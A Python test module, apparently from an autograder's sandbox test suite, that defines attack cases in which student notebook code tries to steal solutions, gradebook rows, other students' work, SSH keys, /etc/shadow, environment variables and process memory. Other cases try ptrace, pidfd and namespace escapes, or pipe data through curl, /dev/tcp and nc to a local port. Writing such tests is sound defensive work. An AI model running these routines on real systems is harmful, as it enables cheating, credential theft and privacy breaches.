"""To read what is not one's own: solutions, marks, others' work, secrets, the judge's memory; to carry it away."""

from __future__ import annotations

from tests.attacks.model import EXERCISE, HEADER, TOKEN, WRONG, ZEROS, Attack, Notebook, Target, cell, filled, source

PUBLISH = f"""
import glob, os, re
def _publish(*pieces):
    \"\"\"What was found is put where the thief can read it: into the message on the feedback page.\"\"\"
    data = b" ".join(p if isinstance(p, bytes) else str(p).encode("utf-8", "replace") for p in pieces)
    found = set(re.findall(rb"{TOKEN}[0-9a-f]{{16}}|[0-9a-f]{{64}}", data))
    if found:
        raise RuntimeError("found " + b" ".join(found).decode())
def _read(*patterns):
    for pattern in patterns:
        for name in [pattern, *glob.glob(pattern, recursive=True)]:
            try:
                with open(name, "rb") as file: yield file.read(1 << 22)
            except (OSError, ValueError): pass
"""
DONE = f"\n    return {ZEROS}\n"


def _stealing(name: str, lines: str, before: str = "", told: str = "cases pass", not_plain: str = "") -> Attack:
    body = "".join(f"    {line}\n" for line in lines.strip("\n").splitlines())
    return Attack(name, "stealing", source(PUBLISH + before + HEADER + body + DONE), told=told, not_plain=not_plain)


def _read_while_loading(notebook: Notebook, target: Target) -> None:
    """The answer cell itself reads; what it finds becomes the cell's error."""
    cell(notebook, EXERCISE)["source"] = PUBLISH + filled(
        "_publish(*_read('<course>/**', '<course>/.*', '<home>/**', '<home>/.*/*'))\n", target) + WRONG


ATTACKS = (
    _stealing("read the solutions", "_publish(*_read('<course>/source/**', '<course>/../solutions/**', "
              "'<course>/../../solutions/**', '../../../source/**', '../../../../solutions/**'))"),
    _stealing("read the gradebook", "_publish(*_read('<course>/gradebook.db*', '../../../gradebook.db'))"),
    _stealing("read the gradebook with SQL", """
import sqlite3
try:
    _publish(*sqlite3.connect('file:<course>/gradebook.db?mode=ro', uri=True).execute('SELECT * FROM student'))
except sqlite3.Error: pass"""),
    _stealing("read another student's submission", "_publish(*_read('<course>/submitted/<victim>/**', "
              "'<course>/autograded/<victim>/**', '<course>/feedback/<victim>/**', '../../<victim>/**'))"),
    _stealing("read the course's secret and its configuration",
              "_publish(*_read('<course>/.course-secret', '<course>/*.py', '<course>/.*', '../../../.course-secret'))"),
    _stealing("read keys in the home folder", "_publish(*_read('<home>/.ssh/*', os.path.expanduser('~/.ssh/*'), "
              "'/*/.ssh/*', '/*/*/.ssh/*', '/etc/shadow'))"),
    _stealing("read everything that can be read", """
for folder, _, files in os.walk('/'):
    if folder.startswith(('/proc', '/sys', '/usr', '/packages')): continue
    _publish(*_read(*(os.path.join(folder, name) for name in files[:200])))""",
              not_plain="it reads the whole disk"),
    Attack("read while the cell is loaded", "stealing", _read_while_loading),
    _stealing("read the environment", "_publish(*os.environ.values(), *_read('/proc/*/environ', '/proc/self/environ'))"),
    _stealing("read command lines, maps and file descriptors of all processes", """
_publish(*_read('/proc/*/cmdline', '/proc/*/task/*/environ', '/proc/*/root<course>/.course-secret',
                '/proc/*/cwd/.course-secret', '/proc/*/root<home>/.ssh/*'))
for link in glob.glob('/proc/[0-9]*/fd/*'):
    try: name = os.readlink(link)
    except OSError: continue
    if name.startswith('/') and not name.startswith('/dev'): _publish(*_read(link))"""),
    _stealing("read the memory of the parent and of process 1", """
for number in {os.getppid(), 1, 2, 3}:
    try:
        for line in open(f'/proc/{number}/maps'):
            first, last = (int(part, 16) for part in line.split()[0].split('-'))
            with open(f'/proc/{number}/mem', 'rb', 0) as memory:
                memory.seek(first)
                _publish(memory.read(min(last - first, 1 << 20)))
    except (OSError, ValueError, OverflowError): pass"""),
    _stealing("trace the parent", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in {os.getppid(), 1, 2, 3}:
    if number != os.getpid() and libc.ptrace(16, number, None, None) == 0:
        raise RuntimeError(f'found process {number}: <traced>')""", told="cases pass"),
    _stealing("read another process's memory with a system call", """
import ctypes
libc, room = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(4096)
class Piece(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
for number in {os.getppid(), 1, 2}:
    for address in (0x400000, 0x555555554000, id(libc)):
        here, there = Piece(ctypes.addressof(room), 4096), Piece(address, 4096)
        if number != os.getpid() and libc.process_vm_readv(number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            raise RuntimeError(f'found process {number}: <read>')"""),
    _stealing("take a file descriptor of another process", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in {os.getppid(), 1}:
    handle = libc.syscall(434, number, 0)
    for wanted in range(8):
        taken = libc.syscall(438, handle, wanted, 0) if handle >= 0 else -1
        if taken >= 0 and number != os.getpid():
            raise RuntimeError(f'found descriptor {wanted}: <taken>')"""),
    _stealing("connect to a service of this machine", """
import socket
for address in ('127.0.0.1', 'localhost', '::1', '0.0.0.0'):
    try: socket.create_connection((address, <port>), timeout=0.5).sendall(repr(x).encode())
    except OSError: pass"""),
    _stealing("connect to an abstract socket", """
import socket
try:
    link = socket.socket(socket.AF_UNIX)
    link.connect('\\0<socket>')
    link.sendall(b'hidden inputs')
except OSError: pass"""),
    _stealing("ask a name server", """
import socket, struct
try:
    question = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b'\\6hidden\\7example\\0\\0\\1\\0\\1'
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('127.0.0.1', <datagram_port>))
except OSError: pass
try: socket.getaddrinfo('hidden.example.invalid', 80)
except OSError: pass"""),
    _stealing("send the hidden inputs over the network by another program", """
import subprocess
for program in (['/usr/bin/curl', '-s', 'http://127.0.0.1:<port>/'], ['/bin/bash', '-c', ': > /dev/tcp/127.0.0.1/<port>'],
                ['/bin/busybox', 'nc', '127.0.0.1', '<port>']):
    try: subprocess.run(program, timeout=2, input=repr(x).encode())
    except (OSError, subprocess.SubprocessError): pass"""),
    _stealing("reach the outside by a new namespace", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in {os.getppid(), 1}:
    for kind in ('mnt', 'net', 'pid', 'user'):
        try: handle = os.open(f'/proc/{number}/ns/{kind}', os.O_RDONLY)
        except OSError: continue
        if libc.setns(handle, 0) == 0: _publish(*_read('<course>/.course-secret'))
if libc.unshare(0x10000000) == 0 and libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0:
    raise RuntimeError('found a way to mount: <mounted>')"""),
)
